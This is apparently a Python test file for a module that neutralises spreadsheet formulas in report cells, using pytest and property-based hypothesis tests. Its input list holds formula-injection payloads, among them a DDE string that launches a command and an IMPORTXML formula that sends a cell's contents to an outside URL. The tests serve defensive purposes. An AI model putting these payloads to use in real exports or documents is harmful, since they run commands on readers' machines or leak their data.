from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from capacity.report.cells import neutral, printable, restored

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")', "\u00ad=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1", "\uff20SUM(1)", " =1+1", "\u00a0=1", "\u200b=1", '" =1+1', "';=1+1", "'=1", "''=1",
    ";=1+1", ",=1", "=cmd|' /C calc'!A0", "\ufeff=1", "|calc",
]  # fmt: skip
PLAIN = ["reported-case", "p4d.24xlarge TP2 fp16", "5 % of it", "a=b", "3+4", "n@m", "", "(x)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert neutral(text).startswith("'")
    assert restored(neutral(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@given(st.text())
def test_every_text_comes_back(text: str) -> None:
    assert restored(neutral(text)) == text


@given(st.text())
def test_no_cell_begins_with_a_sign_of_a_formula(text: str) -> None:
    visible = neutral(text).lstrip()
    assert unicodedata.normalize("NFKC", visible)[:1] not in set("=+-@")


@given(st.text())
def test_printable_text_has_no_control_character(text: str) -> None:
    kinds = {unicodedata.category(sign) for sign in printable(text)}
    assert kinds.isdisjoint({"Cc", "Cf", "Cs", "Zl", "Zp"})


@given(st.text())
def test_printing_twice_changes_nothing_more(text: str) -> None:
    assert printable(printable(text)) == printable(text)
